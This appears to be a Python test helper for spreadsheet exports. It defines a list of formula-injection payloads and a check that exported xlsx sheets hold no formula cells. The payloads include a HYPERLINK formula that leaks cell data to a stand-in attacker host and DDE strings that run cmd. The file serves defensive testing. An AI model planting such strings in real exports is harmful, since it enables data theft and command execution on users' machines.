"""Reading exported spreadsheets in tests: typed cells of an xlsx, rows of a csv."""

import csv
import io

import openpyxl

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"点我")'
ATTACKS = [
    ATTACK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example")',
    "＋1＋1",
]


def workbook(content):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def cells(sheet):
    return [cell for row in sheet.iter_rows() for cell in row]


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_no_formula(sheet):
    formulas = [cell.coordinate for cell in cells(sheet) if cell.data_type == "f"]
    assert formulas == []
